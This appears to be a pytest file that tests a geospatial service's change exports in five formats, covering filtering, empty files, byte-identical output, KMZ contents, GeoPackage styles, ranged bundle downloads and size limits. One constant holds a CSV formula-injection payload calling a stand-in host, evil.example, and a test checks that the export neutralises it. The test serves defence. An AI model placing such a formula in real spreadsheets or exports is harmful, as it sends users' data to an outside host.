"""Each export of the API opened by programs that are not ours; whole, filtered, empty, and of a site of 5,000 changes."""

import base64
import csv
import hashlib
import io
import json
import subprocess
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import geopandas
import pandas as pd
import pyogrio
import pytest
from lxml import etree
from starlette.testclient import TestClient

from benchmarks.service_fake import FakeRunner
from service.analysis_unit import AnalyseUnit, Step
from service.context import Service
from tests.service.support import feature, work_off

KINDS = ("geojson", "csv", "kmz", "gpkg", "parquet")
KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True, slots=True)
class Told:
    """The stand-in analysis with a hostile scene id, and without the pictures that a licence keeps back."""

    changes: int
    pictures: bool = True

    def __call__(self, unit: AnalyseUnit, out: Path, step: Step) -> None:
        FakeRunner(self.changes)(unit, out, step)
        path = out / "changes.geojson"
        told = json.loads(path.read_text())
        for number, change in enumerate(told["features"]):
            change["properties"] |= {"before_scene": HOSTILE, "licences": ["CC-BY-4.0", "no-chips"]}
            if number == 0:
                change["properties"]["statement"] = (
                    "Ten (9\u201311) objects of 30 m\u00b2, \u201cnorth\u201d."
                )
        path.write_text(json.dumps(told))
        if not self.pictures:
            for picture in out.rglob("*.png"):
                picture.unlink()

    def afresh(self, _products: Path) -> "Told":
        return self


def site_of(service: Service, client: TestClient, runner: Any) -> str:
    site = str(client.post("/sites", json=feature("north")).json()["id"])
    work_off(service, runner)
    return site


def save(client: TestClient, site: str, kind: str, folder: Path, **query: Any) -> Path:
    """An export as a file, as a browser saves it."""
    answer = client.get(f"/sites/{site}/changes", params={"f": kind, "whole": "true", **query})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == f'attachment; filename="changes.{kind}"'
    path = folder / f"changes.{kind}"
    path.write_bytes(answer.content)
    return path


def rows_in(path: Path) -> int:
    """How many changes another program finds in a file."""
    match path.suffix:
        case ".csv":
            return len(pd.read_csv(path))
        case ".parquet":
            return len(geopandas.read_parquet(path))
        case ".gpkg":
            return len(pyogrio.read_dataframe(path, layer="changes"))
        case ".kmz":
            layers = pyogrio.list_layers(path)[:, 0]
            return sum(len(pyogrio.read_dataframe(path, layer=name)) for name in layers)
        case _:
            return len(geopandas.read_file(path))


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_holds_every_change_or_those_a_filter_leaves(
    lite_service: Service, lite_client: TestClient, tmp_path: Path, kind: str
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(150))
    assert rows_in(save(lite_client, site, kind, tmp_path)) == 150
    # A page's limit bounds pages, not files.
    assert rows_in(save(lite_client, site, kind, tmp_path, limit=10)) == 150
    assert rows_in(save(lite_client, site, kind, tmp_path, **{"class": "berm"})) == 50


@pytest.mark.parametrize("kind", KINDS)
def test_a_report_without_changes_gives_a_file_that_opens(
    lite_service: Service, lite_client: TestClient, tmp_path: Path, kind: str
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(0))
    path = save(lite_client, site, kind, tmp_path)
    if kind == "kmz":
        assert zipfile.ZipFile(path).namelist() == ["doc.kml"]
    else:
        assert rows_in(path) == 0


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_question_gives_the_same_bytes(
    lite_service: Service, lite_client: TestClient, tmp_path: Path, kind: str
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(5))
    assert (
        save(lite_client, site, kind, tmp_path).read_bytes()
        == save(lite_client, site, kind, tmp_path).read_bytes()
    )


def test_no_cell_of_the_csv_runs_in_a_spreadsheet(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, Told(3))
    path = save(lite_client, site, "csv", tmp_path)
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    numbers = {"longitude", "latitude"}
    for row in rows[1:]:
        cells = dict(zip(rows[0], row, strict=True))
        assert cells["before_scene"] == "'" + HOSTILE
        assert cells["licences"] == "CC-BY-4.0; no-chips"
        risky = [
            name for name, cell in cells.items() if cell[:1] in set("=+-@\t\r\n") and name not in numbers
        ]
        assert risky == []
    frame = pd.read_csv(path)
    assert "m\u00b2, \u201cnorth\u201d" in frame["statement"][0]
    assert geopandas.GeoSeries.from_wkt(frame["wkt"]).is_valid.all()


def test_the_kmz_unzips_and_carries_pictures_spans_and_terms(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, Told(4))
    path = save(lite_client, site, "kmz", tmp_path)
    subprocess.run(["unzip", "-qt", path], check=True)
    subprocess.run(["unzip", "-q", path, "-d", tmp_path / "open"], check=True)
    document = etree.parse(tmp_path / "open" / "doc.kml")
    marks = document.findall(f".//{KML}Placemark")
    assert len(marks) == len(document.findall(f".//{KML}TimeSpan")) == 4
    assert all("Terms: CC-BY-4.0, no-chips." in mark.findtext(f"{KML}description") for mark in marks)
    pictures = sorted((tmp_path / "open").rglob("*.png"))
    assert len(pictures) == 4
    shown = "".join(mark.findtext(f"{KML}description") for mark in marks)
    assert all(str(picture.relative_to(tmp_path / "open")) in shown for picture in pictures)


def test_the_kmz_holds_no_picture_that_the_report_may_not(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, Told(4, pictures=False))
    with zipfile.ZipFile(save(lite_client, site, "kmz", tmp_path)) as archive:
        assert archive.namelist() == ["doc.kml"]
        assert b"<img" not in archive.read("doc.kml")


def test_the_geopackage_opens_styled_with_looks_and_the_site(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(3))
    path = save(lite_client, site, "gpkg", tmp_path)
    assert set(pyogrio.list_layers(path)[:, 0]) == {"changes", "looks", "aoi", "layer_styles"}
    styles = pyogrio.read_dataframe(path, layer="layer_styles", read_geometry=False)
    assert dict(zip(styles["f_table_name"], styles["useAsDefault"], strict=True)) == {
        "changes": True,
        "looks": True,
        "aoi": True,
    }
    for style in styles["styleQML"]:
        assert etree.fromstring(style.partition("\n")[2].encode()).find("renderer-v2") is not None
    aoi = pyogrio.read_dataframe(path, layer="aoi")
    assert (aoi["name"][0], str(aoi.crs)) == ("north", "EPSG:4326")
    assert aoi.geometry[0].equals(
        geopandas.GeoSeries.from_wkt(["POLYGON((30 50,30.01 50,30.01 50.01,30 50.01,30 50))"])[0]
    )
    assert len(pyogrio.read_dataframe(path, layer="looks")) == 3


def test_the_parquet_is_geoparquet_with_types_and_a_box_to_read_by(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(200))
    path = save(lite_client, site, "parquet", tmp_path)
    frame = geopandas.read_parquet(path)
    assert frame.crs == "EPSG:4326"
    assert str(frame["first_seen"].dtype) == "datetime64[ms, UTC]"
    assert frame["confidence"].between(0, 1).all()
    some = geopandas.read_parquet(path, bbox=(30.0, 50.0, 30.002, 50.01))
    assert 0 < len(some) < 200


def test_a_bundle_is_what_its_digest_says_whole_and_in_parts(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(3))
    here = f"/sites/{site}/reports/latest/bundle.zip"
    first = lite_client.get(here, headers={"Range": "bytes=0-99"})
    assert first.status_code == 206
    size = int(first.headers["content-range"].rpartition("/")[2])
    parts = [first.content] + [
        lite_client.get(here, headers={"Range": f"bytes={start}-{start + 4095}", "If-Range": first.headers["etag"]}).content
        for start in range(100, size, 4096)
    ]  # fmt: skip
    told = first.headers["repr-digest"].removeprefix("sha-256=:").removesuffix(":")
    assert base64.b64decode(told) == hashlib.sha256(b"".join(parts)).digest()
    path = tmp_path / "bundle.zip"
    path.write_bytes(b"".join(parts))
    subprocess.run(["unzip", "-qt", path], check=True)


@pytest.mark.long
def test_five_thousand_changes_leave_in_seconds_whatever_the_file(
    lite_service: Service, lite_client: TestClient, tmp_path: Path
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(5_000))
    for kind in KINDS:
        started = time.monotonic()
        path = save(lite_client, site, kind, tmp_path)
        took = time.monotonic() - started
        assert rows_in(path) == 5_000, kind
        # About a second on an idle machine; this catches what grows with the square.
        assert took < 15.0, (kind, took)


def test_more_changes_than_a_file_holds_are_refused_not_cut(
    lite_service: Service, lite_client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = site_of(lite_service, lite_client, FakeRunner(4))
    monkeypatch.setattr("service.api.reports.MAX_EXPORT", 3)
    for kind in KINDS:
        answer = lite_client.get(f"/sites/{site}/changes", params={"f": kind, "whole": "true"})
        assert (answer.status_code, answer.json()["code"]) == (400, "bad-query"), kind
    narrowed = {"f": "csv", "class": "berm"}
    assert lite_client.get(f"/sites/{site}/changes", params=narrowed).status_code == 200


def test_the_command_saves_changes_in_the_kind_the_name_says(
    lite_service: Service,
    lite_client: TestClient,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from service import client as client_module
    from service.cli import main

    site_of(lite_service, lite_client, FakeRunner(120))
    made = client_module.Client("http://testserver")
    monkeypatch.setattr(made, "_http", lite_client)
    monkeypatch.setattr(made, "close", lambda: None)
    monkeypatch.setattr(client_module, "Client", lambda *_, **__: made)
    for kind in KINDS:
        path = tmp_path / f"saved.{kind}"
        assert main(["report", "north", "--changes", str(path)]) == 0
        assert rows_in(path) == 120
    assert "report 1: 120 changes" in capsys.readouterr().out
    assert main(["report", "north", "--changes", str(tmp_path / "saved.shp")]) == 2
    assert "unknown-export-format" in capsys.readouterr().err
